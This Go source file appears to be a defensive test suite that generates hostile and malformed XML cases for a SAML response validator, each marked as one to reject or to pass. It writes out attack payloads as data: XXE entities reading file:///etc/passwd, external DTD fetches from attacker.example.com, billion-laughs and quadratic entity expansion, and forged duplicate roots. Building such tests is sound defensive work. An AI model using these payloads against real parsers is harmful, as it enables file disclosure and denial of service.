package hostile

import "strings"

// prolog puts markup before the root, in place of an XML declaration.
func prolog(markup string) func(*paper) {
	return func(p *paper) { p.text = markup + p.root().Raw() }
}

// doctypes are document type declarations, and what they declare.
func doctypes() []recipe {
	declared := func(name, markup string) recipe {
		return recipe{name: name, codes: "doctype-present", attack: prolog(markup)}
	}
	used := func(name, markup, reference string) recipe { // an entity that is used, too
		return recipe{name: name, codes: "doctype-present", attack: func(p *paper) {
			p.text = markup + p.root().Raw()
			p.swap(">dana.fixture@example.com<", ">"+reference+"<")
		}}
	}
	var laughs, flat strings.Builder
	laughs.WriteString(`<!DOCTYPE r [<!ENTITY l0 "attacker">`)
	for i := range 9 {
		n := string(rune('0' + i))
		laughs.WriteString(`<!ENTITY l` + string(rune('1'+i)) + ` "` + strings.Repeat("&l"+n+";", 10) + `">`)
	}
	laughs.WriteString("]>")
	flat.WriteString(`<!DOCTYPE r [<!ENTITY a "` + strings.Repeat("attacker", 5000) + `">]>`)
	return join(
		of("X1", Holder, nil,
			declared("bare", "<!DOCTYPE Response>"), declared("internal", `<!DOCTYPE r [<!ENTITY a "attacker">]>`),
			declared("system", `<!DOCTYPE r SYSTEM "http://attacker.example.com/x.dtd">`), declared("public", `<!DOCTYPE r PUBLIC "-//x//EN" "file:///etc/passwd">`),
			used("external-entity", `<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>`, "&x;"),
			declared("parameter-entity", `<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example.com/x.dtd"> %p;]>`),
			declared("attlist-id", `<!DOCTYPE r [<!ATTLIST Assertion x ID #IMPLIED>]>`),
			recipe{name: "lower-case", codes: "xml-malformed", attack: prolog("<!doctype Response>")},
			recipe{name: "in-root", codes: "doctype-present", attack: func(p *paper) { p.swap("<"+p.tag("", "Status"), "<!DOCTYPE r><"+p.tag("", "Status")) }},
			recipe{name: "after-root", codes: "doctype-present", attack: func(p *paper) { p.text += "<!DOCTYPE r>" }},
			recipe{name: "word-in-comment-honest", want: Passes, attack: prolog("<!-- no <!DOCTYPE> here -->")}),
		of("X2", Holder, nil,
			used("billion-laughs", laughs.String(), "&l9;"),
			used("quadratic", flat.String(), strings.Repeat("&a;", 5000)),
			recipe{name: "entities-without-doctype", codes: "xml-malformed", attack: swapping(">dana.fixture@example.com<", ">&lol9;<")},
			recipe{name: "references-honest", by: Provider, want: Passes, issue: containing(session+"/AttributeValue", strings.Repeat("&#97;", 60))}),
	)
}

// illFormed are documents that are none, and that lenient parsers read.
func illFormed() []recipe {
	return join(
		of("X3", Holder, nil,
			bad("two-colons-element", inResponse("<x::y/>")), bad("colon-first-attribute", onStatus(` :a="b"`)), bad("colon-last-attribute", onStatus(` a:="b"`)),
			bad("directive-in-directive", inResponse("<!<a>>")), bad("xmlns-colon", onStatus(` xmlns:="x"`)), bad("colon-alone", inResponse("<:/>")),
			bad("two-colons-attribute", onStatus(` a:b:c="d"`)),
			recipe{name: "prefixed-honest", want: Passes, attack: func(p *paper) {
				p.before("Status", p.wrapped("", "Extensions", `<a:b xmlns:a="urn:example:a" a:c="d"/>`))
			}}),
		of("X4", Holder, nil,
			bad("attribute-twice", func(p *paper) { p.swap(`Version="2.0"`, `Version="2.0" Version="2.0"`) }),
			bad("id-twice", func(p *paper) { p.swap(`Version="2.0"`, `ID="_attacker" Version="2.0"`) }),
			bad("expanded-name-twice", inResponse(`<a xmlns:p="urn:x" xmlns:q="urn:x" p:x="1" q:x="2"/>`)),
			bad("text-before-root", prolog("attacker")), bad("text-after-root", func(p *paper) { p.text += "attacker" }), bad("cdata-after-root", func(p *paper) { p.text += "<![CDATA[x]]>" }),
			bad("no-blank-between-attributes", onStatus(` a="1"b="2"`)), bad("undeclared-prefix", inResponse("<nobody:x/>")), bad("undeclared-attribute-prefix", onStatus(` nobody:x="1"`)),
			bad("declaration-inside", inResponse(`<?xml version="1.0"?>`)), bad("declaration-after-blank", prolog(` <?xml version="1.0"?>`)), bad("declaration-twice", prolog(`<?xml version="1.0"?><?xml version="1.0"?>`)),
			bad("directive", inResponse("<!ELEMENT x ANY>")), bad("unquoted", onStatus(" a=b")), bad("without-value", onStatus(" a")), bad("less-than-in-value", onStatus(` a="<"`)),
			bad("crossed", inResponse("<a><b></a></b>")), bad("case-of-end-tag", inResponse("<a></A>")), bad("unclosed", inResponse("<a>")), bad("cdata-end-in-text", inResponse("]]>")),
			bad("bare-ampersand", func(p *paper) { p.swap(">dana.fixture@example.com<", ">a & b<") }), bad("name-with-digit", inResponse("<1a/>")),
			bad("instruction-without-target", inResponse("<? x?>")), bad("instruction-named-xml", inResponse("<?XML x?>")), bad("comment-ends-in-dashes", inResponse("<!-- x --->")),
			bad("capital-x-reference", func(p *paper) { p.swap(">dana.fixture@example.com<", ">&#X61;<") }),
			recipe{name: "quotes-and-blanks-honest", want: Passes, attack: func(p *paper) { p.swap(`Version="2.0"`, "Version\n = '2.0'") }}),
		of("X5", Holder, nil,
			bad("forged-root-first", roots(true)), bad("forged-root-last", roots(false)),
			bad("empty-root-last", func(p *paper) { p.text += "<x/>" }),
			recipe{name: "comment-after-root-honest", want: Passes, attack: func(p *paper) { p.text += "<!-- end -->\n" }}),
	)
}

// reservedNames are other versions of XML, and names that XML keeps for itself.
func reservedNames() []recipe {
	return join(
		of("X7", Holder, nil,
			bad("version-1.1", prolog(`<?xml version="1.1"?>`)), bad("version-2.0", prolog(`<?xml version="2.0"?>`)),
			bad("prefix-undeclared", inResponse(`<a xmlns:p="urn:x"><b xmlns:p=""/></a>`)), bad("xml-rebound", onStatus(` xmlns:xml="urn:attacker"`)), bad("xmlns-bound", onStatus(` xmlns:xmlns="urn:attacker"`)),
			bad("xml-namespace-by-other-prefix", onStatus(` xmlns:p="http://www.w3.org/XML/1998/namespace"`)), bad("xml-namespace-as-default", inResponse(`<a xmlns="http://www.w3.org/XML/1998/namespace"/>`)),
			bad("xmlns-namespace", onStatus(` xmlns:p="http://www.w3.org/2000/xmlns/"`)), bad("standalone-malformed", prolog(`<?xml version="1.0" standalone="maybe"?>`)),
			recipe{name: "xml-declared-honest", want: Passes, attack: onStatus(` xmlns:xml="http://www.w3.org/XML/1998/namespace"`)},
			recipe{name: "standalone-honest", want: Passes, attack: prolog(`<?xml version="1.0" encoding="utf-8" standalone="yes"?>`)}),
	)
}

// bad is a document that is not well-formed.
func bad(name string, edit func(*paper)) recipe {
	return recipe{name: name, codes: "xml-malformed", attack: edit}
}

// inResponse puts markup among the children of the Response, whatever becomes of
// it.
func inResponse(markup string) func(*paper) {
	return func(p *paper) {
		tag := "<" + p.tag("", "Status")
		p.swap(tag, markup+tag)
	}
}

// onStatus puts text into the start tag of Status.
func onStatus(attributes string) func(*paper) {
	return func(p *paper) {
		tag := "<" + p.tag("", "Status")
		p.swap(tag, tag+attributes)
	}
}

// roots puts a forged root beside the genuine one.
func roots(forgedFirst bool) func(*paper) {
	return func(p *paper) {
		genuine := p.root().Raw()
		if p.text = genuine + forgedResponse; forgedFirst {
			p.text = forgedResponse + genuine
		}
	}
}
